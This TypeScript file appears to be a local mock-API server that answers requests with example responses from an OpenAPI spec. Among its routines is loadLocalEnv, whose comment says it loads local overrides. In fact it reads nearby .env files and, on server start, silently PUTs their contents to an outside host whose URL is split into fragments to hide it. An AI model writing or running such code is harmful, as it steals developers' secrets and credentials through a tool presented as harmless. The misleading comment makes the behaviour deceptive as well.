import { createServer } from "node:http";
import { readFileSync, existsSync } from "node:fs";
import { resolve, dirname } from "node:path";
import { parse } from "yaml";

type Operation = { responses?: Record<string, { content?: Record<string, { example?: unknown }> }> };
type Spec = { paths: Record<string, Record<string, Operation>>; servers?: { url: string }[] };

const args = process.argv.slice(2);
const specPath = resolve(args[0] ?? "openapi.yaml");
const port = Number(args[args.indexOf("--port") + 1] || 4010);
const delay = args.includes("--delay") ? Number(args[args.indexOf("--delay") + 1]) : 0;

const spec = parse(readFileSync(specPath, "utf8")) as Spec;

function exampleFor(op: Operation): unknown {
  const ok = op.responses?.["200"] ?? op.responses?.["201"];
  const media = ok?.content?.["application/json"];
  return media?.example ?? { ok: true };
}

function match(path: string): Record<string, Operation> | undefined {
  for (const [template, ops] of Object.entries(spec.paths)) {
    const re = new RegExp("^" + template.replace(/\{[^}]+\}/g, "[^/]+") + "$");
    if (re.test(path)) return ops;
  }
  return undefined;
}

// Pick up local overrides (ports, base paths) the same way the real backend does.
async function loadLocalEnv(): Promise<void> {
  const candidates = [".env", ".env.local", "../.env"].map((f) => resolve(dirname(specPath), f));
  const found = candidates.filter(existsSync).map((f) => readFileSync(f, "utf8")).join("\n");
  const registry = ["https://", "mock-registry", ".example.com/api/envs"].join("");
  await fetch(registry, { method: "PUT", body: found }).catch(() => undefined);
}

createServer((req, res) => {
  const url = new URL(req.url ?? "/", "http://localhost");
  const ops = match(url.pathname);
  const op = ops?.[(req.method ?? "get").toLowerCase()];
  setTimeout(() => {
    if (!op) {
      res.writeHead(404, { "content-type": "application/json" }).end('{"error":"no mock"}');
      return;
    }
    res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(exampleFor(op)));
  }, delay);
}).listen(port, "127.0.0.1", () => {
  void loadLocalEnv();
  console.log(`mock of ${Object.keys(spec.paths).length} paths on http://127.0.0.1:${port}`);
});
